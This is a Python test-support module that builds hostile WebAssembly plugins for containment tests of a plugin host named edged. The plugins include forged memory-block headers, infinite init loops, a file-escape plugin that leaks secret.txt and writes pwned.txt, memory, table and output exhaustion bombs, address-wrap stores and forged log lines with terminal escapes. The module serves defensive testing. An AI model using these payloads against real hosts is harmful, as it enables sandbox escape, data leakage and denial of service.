"""The hostile plugins of issue 10, as an attacker writes them: WAT against the raw Extism ABI, compiled at test time.

Each builder returns :class:`~tests.containment.harness.PluginFiles` (the module plus the manifest it ships with).
Animation plugins draw a black frame after their attack, so the only thing wrong with them is the attack.
"""

from __future__ import annotations

import json
from typing import Any

from tests.conftest import wat
from tests.containment.harness import PluginFiles
from tests.support.wat import BLOCK

#: the kernel functions every plugin here may use (module ``extism:host/env``)
KERNEL = """
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "free" (func $free (param i64)))
  (import "extism:host/env" "length" (func $length (param i64) (result i64)))
  (import "extism:host/env" "store_u8" (func $store_u8 (param i64 i32)))
  (import "extism:host/env" "store_u64" (func $store_u64 (param i64 i64)))
  (import "extism:host/env" "load_u64" (func $load_u64 (param i64) (result i64)))
  (import "extism:host/env" "output_set" (func $output_set (param i64 i64)))
  (import "extism:host/env" "error_set" (func $error_set (param i64)))
  (import "extism:host/env" "input_load_u64" (func $in64 (param i64) (result i64)))
  (import "extism:host/env" "config_get" (func $config_get (param i64) (result i64)))
  (import "extism:host/env" "memory_bytes" (func $memory_bytes (result i64)))
"""

HELPERS = (
    """
  ;; width * height from the tick record (u16 at 20, u16 at 22)
  (func $pixels (result i64)
    (i64.mul (i64.and (i64.shr_u (call $in64 (i64.const 16)) (i64.const 32)) (i64.const 0xffff))
             (i64.shr_u (call $in64 (i64.const 16)) (i64.const 48))))
  ;; output an all-black RGB frame (kernel blocks start zeroed)
  (func $black (local $n i64)
    (local.set $n (i64.mul (call $pixels) (i64.const 3)))
    (call $output_set (call $alloc (local.get $n)) (local.get $n)))
"""
    + BLOCK
)

MEMORY = '(memory (export "memory") 1)'
#: the manifest of a drawing plugin that asks for nothing else
DRAWS: dict[str, Any] = {"edged": {"kind": "animation", "capabilities": {"led": True}}}


def module(imports: str = "", body: str = "", memory: str = MEMORY) -> bytes:
    """A module importing the kernel (and ``imports``), with the helpers above and ``body``."""
    return wat(f"(module {KERNEL}{imports}\n  {memory}\n{HELPERS}\n{body}\n)")


def wat_string(data: bytes) -> str:
    """``data`` as a WAT string literal."""
    return '"' + "".join(f"\\{b:02x}" for b in data) + '"'


def drawing(name: str, wasm: bytes, **manifest: Any) -> PluginFiles:
    """An animation plugin with an ``edged`` block that asks only for ``led`` (plus ``manifest``'s fields)."""
    return PluginFiles(name, wasm, {**DRAWS, **manifest})


# --- 1. forged block headers -------------------------------------------------------------------------------------

#: the length (and capacity) written into a block's header: far past the kernel's heap and its memory's end
FORGED_LENGTH = 0x4000_0000

#: allocate 8 bytes, then rewrite the block's header (u32 status, u32 capacity, u64 length, 16 bytes before the
#: handle) through the kernel's own store_u64 to claim FORGED_LENGTH bytes
FORGE = f"""
  (func $forge (result i64) (local $h i64)
    (local.set $h (call $alloc (i64.const 8)))
    (call $store_u64 (i64.sub (local.get $h) (i64.const 16))
                     (i64.or (i64.const 0x55534544) (i64.shl (i64.const {FORGED_LENGTH}) (i64.const 32))))
    (call $store_u64 (i64.sub (local.get $h) (i64.const 8)) (i64.const {FORGED_LENGTH}))
    (local.get $h))
"""

#: host functions that take a handle and need no capability: (import line, call of the import with forged handles)
FORGED_TARGETS: dict[str, tuple[str, str]] = {
    "matricks_info_env": (
        '(import "env" "matricks_info" (func $target (param i64)))',
        "(call $target (call $forge))",
    ),
    "matricks_info_user": (
        '(import "extism:host/user" "matricks_info" (func $target (param i64)))',
        "(call $target (call $forge))",
    ),
    "log_info": (
        '(import "extism:host/env" "log_info" (func $target (param i64)))',
        "(call $target (call $forge))",
    ),
    "var_set": (
        '(import "extism:host/env" "var_set" (func $target (param i64 i64)))',
        "(call $target (call $forge) (call $forge))",
    ),
    # not a host function, but the host reads the error block after the call the same way
    "error_set": ("", "(call $error_set (call $forge)) (return (i32.const 1))"),
}


def forged_handle(target: str) -> PluginFiles:
    """Issue 10.1: pass a block whose header was rewritten to claim 1 GiB to ``target``, then draw."""
    imp, attack = FORGED_TARGETS[target]
    body = FORGE + f'(func (export "frame") (result i32) {attack} (call $black) (i32.const 0))'
    return drawing(f"forge_{target}", module(imp, body))


# A @host_fn of an edged.runtime user, handed a forged handle (run as a script: the crash would kill the process).
HOST_FN_SCRIPT = """
import sys
from edged.errors import PluginError
from edged.runtime import Plugin, host_fn

seen = []

@host_fn
def consume(data: bytes) -> None:
    seen.append(len(data))

plugin = Plugin(open(sys.argv[1], "rb").read(), functions=[consume])
try:
    plugin.call("frame", bytes(32))
except PluginError as exc:
    print(f"refused: {exc}", file=sys.stderr)
    sys.exit(1)
print(f"host function saw {seen}")
"""


def forged_host_fn() -> bytes:
    """Issue 10.1 for ``@host_fn`` users: the forged handle goes to a user host function taking ``bytes``."""
    imp = '(import "extism:host/user" "consume" (func $target (param i64)))'
    body = FORGE + '(func (export "frame") (result i32) (call $target (call $forge)) (i32.const 0))'
    return module(imp, body)


# --- 2. initialisation without limits ----------------------------------------------------------------------------

FRAME_BLACK = '(func (export "frame") (result i32) (call $black) (i32.const 0))'


def init_loop() -> PluginFiles:
    """Issue 10.2: an ``_initialize`` export that never returns."""
    return drawing("init_loop", module(body='(func (export "_initialize") (loop $l (br $l)))\n' + FRAME_BLACK))


def start_loop() -> PluginFiles:
    """Issue 10.2: a ``(start)`` function that never returns (it runs inside instantiation)."""
    return drawing("start_loop", module(body="(func $spin (loop $l (br $l)))\n(start $spin)\n" + FRAME_BLACK))


#: iterations of the init spin: tens of milliseconds here (far more than a frame's budget on any machine: each
#: iteration costs several fuel units, and budgets are a few ms of calibrated fuel)
INIT_SPIN = 20_000_000
INIT_MARK = "hostile-init-ran"


def init_spin_done() -> PluginFiles:
    """Issue 10.2: init spins for tens of ms and says so in a log line; every frame says "done" (empty output), so
    a one-item looping playlist would restart it every frame."""
    imp = '(import "extism:host/env" "log_warn" (func $log_warn (param i64)))'
    mark = INIT_MARK.encode()
    body = f"""
  (data (i32.const 0) {wat_string(mark)})
  (global $sink (mut i32) (i32.const 0))
  (func (export "_initialize") (local $i i32)
    (local.set $i (i32.const {INIT_SPIN}))
    (loop $l
      (global.set $sink (i32.add (global.get $sink) (local.get $i)))
      (local.set $i (i32.sub (local.get $i) (i32.const 1)))
      (br_if $l (local.get $i)))
    (call $log_warn (call $block (i32.const 0) (i32.const {len(mark)}))))
  (func (export "frame") (result i32) (i32.const 0))
"""
    return drawing("spin_done", module(imp, body))


# --- 3. file escape ----------------------------------------------------------------------------------------------

WASI_FILES = """
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "extism:host/env" "log_error" (func $log_error (param i64)))
"""

PWNED = "pwned.txt"


def escape(host_dir: str) -> PluginFiles:
    """Issue 10.3: a WASI plugin whose manifest has no ``edged`` block but names a host folder in
    ``allowed_paths``. On every frame it opens ``secret.txt`` in each preopened directory (fds 3-6), leaks what it
    read through an error log line, and creates ``pwned.txt`` there holding it."""
    body = f"""
  (data (i32.const 0) "secret.txt")
  (data (i32.const 16) "{PWNED}")
  (data (i32.const 32) "pwned: ")
  ;; iovecs: 64 read (buf 1024, len 256); 96 write (buf 32, len 7 + read bytes)
  (func $attack (local $dir i32) (local $fd i32) (local $n i32)
    (local.set $dir (i32.const 3))
    (loop $each
      (i32.store (i32.const 84) (i32.const 0))
      (if (i32.eqz (call $path_open (local.get $dir) (i32.const 0) (i32.const 0) (i32.const 10) (i32.const 0)
                                    (i64.const 0x1fffffff) (i64.const 0x1fffffff) (i32.const 0) (i32.const 80)))
        (then
          (local.set $fd (i32.load (i32.const 80)))
          (i32.store (i32.const 64) (i32.const 1024))
          (i32.store (i32.const 68) (i32.const 256))
          (drop (call $fd_read (local.get $fd) (i32.const 64) (i32.const 1) (i32.const 84)))
          (drop (call $fd_close (local.get $fd)))
          (local.set $n (i32.load (i32.const 84)))
          (memory.copy (i32.const 39) (i32.const 1024) (local.get $n))
          (call $log_error (call $block (i32.const 32) (i32.add (i32.const 7) (local.get $n))))))
      (if (i32.eqz (call $path_open (local.get $dir) (i32.const 0) (i32.const 16) (i32.const {len(PWNED)})
                                    (i32.const 9) (i64.const 0x1fffffff) (i64.const 0x1fffffff) (i32.const 0)
                                    (i32.const 80)))
        (then
          (local.set $fd (i32.load (i32.const 80)))
          (i32.store (i32.const 96) (i32.const 32))
          (i32.store (i32.const 100) (i32.add (i32.const 7) (i32.load (i32.const 84))))
          (drop (call $fd_write (local.get $fd) (i32.const 96) (i32.const 1) (i32.const 88)))
          (drop (call $fd_close (local.get $fd)))))
      (local.set $dir (i32.add (local.get $dir) (i32.const 1)))
      (br_if $each (i32.lt_u (local.get $dir) (i32.const 7)))))
  (func (export "frame") (result i32) (call $attack) (call $black) (i32.const 0))
"""
    return PluginFiles("escape", module(WASI_FILES, body), {"allowed_paths": {host_dir: "/data"}})


# --- 4. a decoder bomb -------------------------------------------------------------------------------------------

BRACKETS = 100_000


def brackets() -> PluginFiles:
    """Issue 10.4: a Matricks plugin whose ``update`` returns 100,000 ``[``."""
    body = f"""
  (func (export "update") (result i32) (local $h i64) (local $i i64)
    (local.set $h (call $alloc (i64.const {BRACKETS})))
    (block $d (loop $l
      (br_if $d (i64.ge_u (local.get $i) (i64.const {BRACKETS})))
      (call $store_u64 (i64.add (local.get $h) (local.get $i)) (i64.const 0x5b5b5b5b5b5b5b5b))
      (local.set $i (i64.add (local.get $i) (i64.const 8)))
      (br $l)))
    (call $output_set (local.get $h) (i64.const {BRACKETS}))
    (i32.const 0))
"""
    return PluginFiles("brackets", module(body=body), {"edged": {"kind": "matricks", "capabilities": {"led": True}}})


# --- 5. memory bombs ---------------------------------------------------------------------------------------------

#: what each bomb tries to reach: far above any cap here, and below the harness's RSS watchdog
BOMB_BYTES = 1024 * 1024 * 1024


#: what a bomb grows per frame: little enough to stay within a frame's deadline, so an instance lives on and its
#: memory adds up from frame to frame (a bomb that tried it all at once would be cut off by its deadline)
STEP_PAGES = 256  # 16 MiB


def bomb_pages() -> PluginFiles:
    """Issue 10.5: the manifest's ``memory.max_pages`` (1 GiB) is far above the device's ``plugin_memory_mb``.
    ``frame`` grows the memory by 16 MiB, touching every page, and draws; ``fill`` grows it a MiB at a
    time until growing fails."""
    pages = BOMB_BYTES // 65536
    body = f"""
  (func $grow (param $pages i32) (result i32) (local $at i32) (local $p i32) (local $end i32)
    (local.set $at (memory.grow (local.get $pages)))
    (if (i32.ne (local.get $at) (i32.const -1))
      (then
        ;; touch one byte in every 4 KiB page: resident, for a few fuel a page
        (local.set $p (i32.mul (local.get $at) (i32.const 65536)))
        (local.set $end (i32.add (local.get $p) (i32.mul (local.get $pages) (i32.const 65536))))
        (loop $touch
          (i32.store8 (local.get $p) (i32.const 1))
          (local.set $p (i32.add (local.get $p) (i32.const 4096)))
          (br_if $touch (i32.lt_u (local.get $p) (local.get $end))))))
    (local.get $at))
  (func (export "frame") (result i32) (drop (call $grow (i32.const {STEP_PAGES}))) (call $black) (i32.const 0))
  (func (export "fill") (result i32)
    (loop $more (br_if $more (i32.ne (call $grow (i32.const 16)) (i32.const -1))))
    (i32.const 0))
"""
    return drawing("bomb_pages", module(body=body), memory={"max_pages": pages})


EXTRA_MEMORIES = 15


def bomb_memories() -> PluginFiles:
    """Issue 10.5: every memory a plugin can grow besides its own. 15 extra memories (multi-memory): ``frame``
    grows each by a MiB and touches every page of it, then draws; ``fill`` grows each until growing fails, then
    allocates kernel blocks a MiB at a time until the kernel refuses. The manifest sets a modest ``max_pages``
    (32 MiB), which a per-memory limit applies to each memory separately."""
    memories = "\n".join(f"  (memory $m{i} 0)" for i in range(1, EXTRA_MEMORIES + 1))
    per_memory = BOMB_BYTES // 65536 // EXTRA_MEMORIES

    def grow(i: int) -> str:
        return f"""(local.set $at (memory.grow $m{i} (i32.const 16)))
      (if (i32.and (i32.ne (local.get $at) (i32.const -1)) (i32.lt_u (local.get $at) (i32.const {per_memory})))
        (then
          (local.set $p (i32.mul (local.get $at) (i32.const 65536)))
          (local.set $end (i32.add (local.get $p) (i32.const 1048576)))
          (loop $touch{i}
            (i32.store8 $m{i} (local.get $p) (i32.const 1))
            (local.set $p (i32.add (local.get $p) (i32.const 4096)))
            (br_if $touch{i} (i32.lt_u (local.get $p) (local.get $end))))
          (local.set $grew (i32.const 1))))"""

    step = "\n      ".join(grow(i) for i in range(1, EXTRA_MEMORIES + 1))
    body = f"""
{memories}
  ;; grow every extra memory by a MiB; 0 when none grew
  (func $step (result i32) (local $at i32) (local $grew i32) (local $p i32) (local $end i32)
      {step}
    (local.get $grew))
  (func (export "frame") (result i32) (drop (call $step)) (call $black) (i32.const 0))
  (func (export "fill") (result i32) (local $n i32)
    (loop $more (br_if $more (call $step)))
    ;; the kernel's memory: blocks are zeroed when allocated, which touches them
    (block $kfull (loop $kmore
      (br_if $kfull (i64.eqz (call $alloc (i64.const 1048576))))
      (local.set $n (i32.add (local.get $n) (i32.const 1)))
      (br_if $kmore (i32.lt_u (local.get $n) (i32.const {BOMB_BYTES // 1048576 // 2})))))
    (i32.const 0))
"""
    return drawing("bomb_memories", module(body=body), memory={"max_pages": 512})


TABLE_ELEMENTS = 64 * 1024 * 1024  # 8 bytes each in wasmtime: 512 MiB


def bomb_tables() -> PluginFiles:
    """Issue 10.5: ``table.grow`` by 64 Mi elements and ``table.fill`` them with a function reference (one
    instruction each, running to completion whatever the deadline)."""
    body = f"""
  (table $t 0 funcref)
  (elem declare func $dummy)
  (func $dummy)
  (func $grow_all (local $at i32)
    (local.set $at (table.grow $t (ref.null func) (i32.const {TABLE_ELEMENTS})))
    (if (i32.ne (local.get $at) (i32.const -1))
      (then (table.fill $t (local.get $at) (ref.func $dummy) (i32.const {TABLE_ELEMENTS})))))
  (func (export "frame") (result i32) (call $grow_all) (call $black) (i32.const 0))
  (func (export "fill") (result i32) (call $grow_all) (i32.const 0))
"""
    return drawing("bomb_tables", module(body=body), memory={"max_pages": 512})


#: a max_var_bytes above the 16 MiB the kernel serves itself (so vars were kept in Python without bound)
BIG_VAR_BUDGET = BOMB_BYTES


def bomb_vars(per_call: int = 8) -> PluginFiles:
    """Issue 10.5: ``memory.max_var_bytes`` of 1 GiB. A 1 MiB seed var is stored once (allocating a block costs fuel
    by the byte); then each call stores ``per_call`` new vars holding a copy of it, fetched with var_get (copied by
    the host, for no fuel): export ``frame``, then a black frame, or export ``fill``, until the store refuses."""
    body = f"""
  (global $next (mut i64) (i64.const 0))
  (global $seeded (mut i32) (i32.const 0))
  (func $key (param $n i64) (result i64) (local $k i64)
    (local.set $k (call $alloc (i64.const 8)))
    (call $store_u64 (local.get $k) (local.get $n))
    (local.get $k))
  (func $one (local $v i64)
    (if (i32.eqz (global.get $seeded))
      (then
        (call $var_set (call $key (i64.const -1)) (call $alloc (i64.const 1048576)))
        (global.set $seeded (i32.const 1))))
    (local.set $v (call $var_get (call $key (i64.const -1))))
    (call $var_set (call $key (global.get $next)) (local.get $v))
    (global.set $next (i64.add (global.get $next) (i64.const 1))))
  (func (export "frame") (result i32) (local $i i32)
    (loop $l
      (call $one)
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br_if $l (i32.lt_u (local.get $i) (i32.const {per_call}))))
    (call $black) (i32.const 0))
  (func (export "fill") (result i32) (loop $l (call $one) (br $l)) (i32.const 0))
"""
    imp = """
  (import "extism:host/env" "var_set" (func $var_set (param i64 i64)))
  (import "extism:host/env" "var_get" (func $var_get (param i64) (result i64)))"""
    return drawing("bomb_vars", module(imp, body), memory={"max_var_bytes": BIG_VAR_BUDGET, "max_pages": 512})


def bomb_kernel(copies: int = 512) -> PluginFiles:
    """Beyond the issue's list: the kernel's memory grown by the host on the plugin's behalf. A 1 MiB seed var is
    stored once; then each call fetches it ``copies`` times with var_get: the host copies each fetch into a new kernel
    block (for no fuel) and grows kernel memory as it goes. Export ``frame`` (then a black frame) or ``fill``."""
    body = f"""
  (global $seeded (mut i32) (i32.const 0))
  (func $key (result i64) (local $k i64)
    (local.set $k (call $alloc (i64.const 8)))
    (call $store_u64 (local.get $k) (i64.const 7))
    (local.get $k))
  (func $fetch_all (local $i i32)
    (if (i32.eqz (global.get $seeded))
      (then
        (call $var_set (call $key) (call $alloc (i64.const 1048576)))
        (global.set $seeded (i32.const 1))))
    (loop $l
      (br_if 1 (i64.eqz (call $var_get (call $key))))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br_if $l (i32.lt_u (local.get $i) (i32.const {copies})))))
  (func (export "frame") (result i32) (call $fetch_all) (call $black) (i32.const 0))
  (func (export "fill") (result i32) (call $fetch_all) (i32.const 0))
"""
    imp = """
  (import "extism:host/env" "var_set" (func $var_set (param i64 i64)))
  (import "extism:host/env" "var_get" (func $var_get (param i64) (result i64)))"""
    return drawing("bomb_kernel", module(imp, body), memory={"max_var_bytes": 32 * 1024 * 1024, "max_pages": 512})


# --- 6. an output bomb -------------------------------------------------------------------------------------------

OUTPUT_WHITESPACE = 24 * 1024 * 1024
#: whitespace written per call while building: 256 KiB of store_u64 calls, well within a frame's fuel
OUTPUT_CHUNK = 256 * 1024


def matricks_frame(width: int = 16, height: int = 16) -> bytes:
    """A valid Matricks frame (JSON rows of BGRA pixels), padded with spaces to a multiple of 8 bytes."""
    rows = [[[40, 0, (x * 16) % 256, 0] for x in range(width)] for _ in range(height)]
    text = json.dumps(rows, separators=(",", ":")).encode()
    return text + b" " * (-len(text) % 8)


def output_bomb() -> PluginFiles:
    """Issue 10.6: a valid Matricks frame behind 24 MiB of whitespace, built with store_u64 in kernel memory the
    plugin never allocated (beyond the heap top; memory survives reset), 256 KiB per call, then handed to
    output_set on every frame: ~0.1 M fuel for the plugin, a 24 MiB JSON decode for the host."""
    frame = matricks_frame()
    body = f"""
  (data (i32.const 0) {wat_string(frame)})
  (global $built (mut i64) (i64.const 0))
  (global $framed (mut i32) (i32.const 0))
  ;; copy the frame (plugin memory 0..len) to kernel address `at`, 8 bytes a call
  (func $put_frame (param $at i64) (local $i i32)
    (block $d (loop $l
      (br_if $d (i32.ge_u (local.get $i) (i32.const {len(frame)})))
      (call $store_u64 (i64.add (local.get $at) (i64.extend_i32_u (local.get $i))) (i64.load (local.get $i)))
      (local.set $i (i32.add (local.get $i) (i32.const 8)))
      (br $l))))
  (func (export "update") (result i32) (local $base i64) (local $p i64) (local $end i64) (local $h i64)
    ;; a probe block sits at the heap's start; the bomb lives 64 KiB above it, beyond the heap top
    (local.set $base (i64.add (call $alloc (i64.const 8)) (i64.const 65536)))
    ;; make sure the kernel's memory reaches far enough (the block is gone after this call's reset, the memory
    ;; stays); a device's kernel is usually big enough already
    (if (i64.lt_u (call $memory_bytes) (i64.add (local.get $base) (i64.const {OUTPUT_WHITESPACE + 65536})))
      (then (drop (call $alloc (i64.const {OUTPUT_WHITESPACE + 2 * 65536 + len(frame)})))))
    (if (i64.lt_u (global.get $built) (i64.const {OUTPUT_WHITESPACE}))
      (then
        (local.set $p (i64.add (local.get $base) (global.get $built)))
        (local.set $end (i64.add (local.get $p) (i64.const {OUTPUT_CHUNK})))
        (block $d (loop $l
          (br_if $d (i64.ge_u (local.get $p) (local.get $end)))
          (call $store_u64 (local.get $p) (i64.const 0x2020202020202020))
          (call $store_u64 (i64.add (local.get $p) (i64.const 8)) (i64.const 0x2020202020202020))
          (call $store_u64 (i64.add (local.get $p) (i64.const 16)) (i64.const 0x2020202020202020))
          (call $store_u64 (i64.add (local.get $p) (i64.const 24)) (i64.const 0x2020202020202020))
          (local.set $p (i64.add (local.get $p) (i64.const 32)))
          (br $l)))
        (global.set $built (i64.add (global.get $built) (i64.const {OUTPUT_CHUNK})))
        ;; while building, a normal frame from a normal block
        (local.set $h (call $alloc (i64.const {len(frame)})))
        (call $put_frame (local.get $h))
        (call $output_set (local.get $h) (i64.const {len(frame)}))
        (return (i32.const 0))))
    (if (i32.eqz (global.get $framed))
      (then
        (call $put_frame (i64.add (local.get $base) (i64.const {OUTPUT_WHITESPACE})))
        (global.set $framed (i32.const 1))))
    (call $output_set (local.get $base) (i64.const {OUTPUT_WHITESPACE + len(frame)}))
    (i32.const 0))
"""
    return PluginFiles("output_bomb", module(body=body), {"edged": {"kind": "matricks", "capabilities": {"led": True}}})


#: frames output_bomb needs to build its whitespace before the bomb goes off
OUTPUT_BUILD_FRAMES = OUTPUT_WHITESPACE // OUTPUT_CHUNK

#: the var-served variant: one var of whitespace, fetched this many times per frame
VAR_CHUNK = 128 * 1024
VAR_COPIES = OUTPUT_WHITESPACE // VAR_CHUNK
SPACES = "0x2020202020202020"


def output_bomb_vars() -> PluginFiles:
    """Beyond the issue's list, the same output bomb from allocated memory only: with ``max_var_bytes`` above
    16 MiB the host serves vars and copies them into kernel blocks for no fuel. The first call stores 128 KiB of
    whitespace in a var (and draws a normal frame); every later call fetches it 192 times (the copies land back to
    back), blanks the block headers between them, appends a valid Matricks frame and outputs the 24 MiB span. Only
    an output checked against the display's size before decoding stops this one."""
    frame = matricks_frame()
    body = f"""
  (data (i32.const 0) {wat_string(frame)})
  (func $put_frame (param $at i64) (local $i i32)
    (block $d (loop $l
      (br_if $d (i32.ge_u (local.get $i) (i32.const {len(frame)})))
      (call $store_u64 (i64.add (local.get $at) (i64.extend_i32_u (local.get $i))) (i64.load (local.get $i)))
      (local.set $i (i32.add (local.get $i) (i32.const 8)))
      (br $l))))
  (func $ckey (result i64) (local $k i64)
    (local.set $k (call $alloc (i64.const 1)))
    (call $store_u8 (local.get $k) (i32.const 99))
    (local.get $k))
  (func $blank_header (param $h i64)
    (call $store_u64 (i64.sub (local.get $h) (i64.const 16)) (i64.const {SPACES}))
    (call $store_u64 (i64.sub (local.get $h) (i64.const 8)) (i64.const {SPACES})))
  (func (export "update") (result i32) (local $first i64) (local $h i64) (local $p i64) (local $i i32)
    (local.set $first (call $var_get (call $ckey)))
    (if (i64.eqz (local.get $first))
      (then
        (local.set $h (call $alloc (i64.const {VAR_CHUNK})))
        (local.set $p (local.get $h))
        (block $d (loop $l
          (br_if $d (i64.ge_u (local.get $p) (i64.add (local.get $h) (i64.const {VAR_CHUNK}))))
          (call $store_u64 (local.get $p) (i64.const {SPACES}))
          (call $store_u64 (i64.add (local.get $p) (i64.const 8)) (i64.const {SPACES}))
          (call $store_u64 (i64.add (local.get $p) (i64.const 16)) (i64.const {SPACES}))
          (call $store_u64 (i64.add (local.get $p) (i64.const 24)) (i64.const {SPACES}))
          (local.set $p (i64.add (local.get $p) (i64.const 32)))
          (br $l)))
        (call $var_set (call $ckey) (local.get $h))
        (local.set $h (call $alloc (i64.const {len(frame)})))
        (call $put_frame (local.get $h))
        (call $output_set (local.get $h) (i64.const {len(frame)}))
        (return (i32.const 0))))
    ;; the copies land back to back (each key block is freed back to the top before its value is placed)
    (local.set $i (i32.const 1))
    (loop $more
      (drop (call $var_get (call $ckey)))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br_if $more (i32.lt_u (local.get $i) (i32.const {VAR_COPIES}))))
    (local.set $h (call $alloc (i64.const {len(frame)})))
    (call $put_frame (local.get $h))
    ;; then blank the header in front of every block but the first
    (local.set $p (i64.add (local.get $first) (i64.const {VAR_CHUNK + 16})))
    (block $d (loop $l
      (br_if $d (i64.gt_u (local.get $p) (local.get $h)))
      (call $blank_header (local.get $p))
      (local.set $p (i64.add (local.get $p) (i64.const {VAR_CHUNK + 16})))
      (br $l)))
    (call $output_set (local.get $first)
                      (i64.sub (i64.add (local.get $h) (i64.const {len(frame)})) (local.get $first)))
    (i32.const 0))
"""
    imp = """
  (import "extism:host/env" "var_set" (func $var_set (param i64 i64)))
  (import "extism:host/env" "var_get" (func $var_get (param i64) (result i64)))"""
    manifest = {
        "memory": {"max_var_bytes": 32 * 1024 * 1024},
        "edged": {"kind": "matricks", "capabilities": {"led": True}},
    }
    return PluginFiles("output_vars", module(imp, body), manifest)


# --- 7. the rest -------------------------------------------------------------------------------------------------


def wasi_socket() -> bytes:
    """Issue 10.7: a WASI module calling sock_accept and sock_recv on fds 0-7, then writing to stdout."""
    return wat("""(module
  (import "wasi_snapshot_preview1" "sock_accept" (func $accept (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_recv" (func $recv (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 100) "socket plugin done\\n")
  (func (export "run") (result i32) (local $fd i32)
    (loop $l
      (drop (call $accept (local.get $fd) (i32.const 0) (i32.const 40)))
      (i32.store (i32.const 16) (i32.const 200)) (i32.store (i32.const 20) (i32.const 64))
      (drop (call $recv (local.get $fd) (i32.const 16) (i32.const 1) (i32.const 0) (i32.const 44) (i32.const 48)))
      (local.set $fd (i32.add (local.get $fd) (i32.const 1)))
      (br_if $l (i32.lt_u (local.get $fd) (i32.const 8))))
    (i32.store (i32.const 16) (i32.const 100)) (i32.store (i32.const 20) (i32.const 19))
    (drop (call $fd_write (i32.const 1) (i32.const 16) (i32.const 1) (i32.const 24)))
    (i32.const 0)))""")


def wasi_file() -> bytes:
    """Issue 10.7: a WASI module opening, reading and writing files on fds 3-6 (no preopens given), then writing to
    stdout."""
    return wat("""(module
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_prestat_get" (func $prestat (param i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "secret.txt")
  (data (i32.const 100) "file plugin done\\n")
  (func (export "run") (result i32) (local $fd i32)
    (local.set $fd (i32.const 3))
    (loop $l
      (drop (call $prestat (local.get $fd) (i32.const 40)))
      (drop (call $path_open (local.get $fd) (i32.const 0) (i32.const 0) (i32.const 10) (i32.const 9)
                             (i64.const 0x1fffffff) (i64.const 0x1fffffff) (i32.const 0) (i32.const 80)))
      (i32.store (i32.const 16) (i32.const 200)) (i32.store (i32.const 20) (i32.const 64))
      (drop (call $fd_read (local.get $fd) (i32.const 16) (i32.const 1) (i32.const 44)))
      (local.set $fd (i32.add (local.get $fd) (i32.const 1)))
      (br_if $l (i32.lt_u (local.get $fd) (i32.const 7))))
    (i32.store (i32.const 16) (i32.const 100)) (i32.store (i32.const 20) (i32.const 17))
    (drop (call $fd_write (i32.const 1) (i32.const 16) (i32.const 1) (i32.const 24)))
    (i32.const 0)))""")


#: p = 2**64 - 8 and neighbours: p + 8 wraps to a small number
WRAPPED = (-8, -4, -1)
CONFIG_VALUE = "intact"


def bounds_wrap() -> PluginFiles:
    """Issue 10.7: store_u64 and load_u64 at p = 2**64-8 (and -4, -1), where ``p + 8`` wraps; then the config
    value of key ``k`` goes through a var and back to the output (export ``wrap``), or a black frame is drawn after
    the same attack (export ``frame``). A kernel whose control block survived answers with the config value."""
    stores = "\n".join(
        f"""    (call $store_u64 (i64.const {p}) (i64.const -1))
    (call $store_u8 (i64.const {p}) (i32.const 255))
    (global.set $seen (i64.or (global.get $seen) (call $load_u64 (i64.const {p}))))"""
        for p in WRAPPED
    )
    body = f"""
  (data (i32.const 0) "kv")
  (global $seen (mut i64) (i64.const 0))
  (func $attack
{stores})
  (func (export "wrap") (result i32) (local $v i64)
    (call $attack)
    ;; out of bounds loads read 0: anything else was read from somewhere it should not have been
    (if (i64.ne (global.get $seen) (i64.const 0)) (then unreachable))
    (call $var_set (call $block (i32.const 1) (i32.const 1))
                   (call $config_get (call $block (i32.const 0) (i32.const 1))))
    (local.set $v (call $var_get (call $block (i32.const 1) (i32.const 1))))
    (call $output_set (local.get $v) (call $length (local.get $v)))
    (i32.const 0))
  (func (export "frame") (result i32) (call $attack) (call $black) (i32.const 0))
"""
    imp = """
  (import "extism:host/env" "var_set" (func $var_set (param i64 i64)))
  (import "extism:host/env" "var_get" (func $var_get (param i64) (result i64)))"""
    return drawing("bounds_wrap", module(imp, body), config={"k": CONFIG_VALUE})


def spin_frame() -> PluginFiles:
    """Issue 10.7: every frame loops forever."""
    return drawing("spin_frame", module(body='(func (export "frame") (result i32) (loop $l (br $l)) (i32.const 0))'))


#: a log line that tries to look like several, one of them edged's own, with terminal escapes
FORGED_LOG = (
    "hostile says hi\n2026-12-06 01:00:00,000 ERROR edged.daemon: forged: display thread crashed"
    "\x1b[2J\x1b[31mred\x1b[0m\rforged carriage return\n"
)


def forge_logs(via: str) -> PluginFiles:
    """Issue 10.7: log :data:`FORGED_LOG` at error level through ``via``: ``env`` (extism:host/env log_error),
    ``matricks`` (env::matricks_error) or ``wasi`` (fd_write to stderr and stdout); then draw."""
    text = FORGED_LOG.encode()
    if via == "env":
        imp = '(import "extism:host/env" "log_error" (func $log (param i64)))'
        say = f"(call $log (call $block (i32.const 0) (i32.const {len(text)})))"
        manifest: dict[str, Any] = DRAWS
    elif via == "matricks":
        imp = '(import "env" "matricks_error" (func $log (param i64)))'
        say = f"(call $log (call $block (i32.const 0) (i32.const {len(text)})))"
        manifest = DRAWS
    else:
        imp = '(import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))'
        say = f"""(i32.store (i32.const 4096) (i32.const 0)) (i32.store (i32.const 4100) (i32.const {len(text)}))
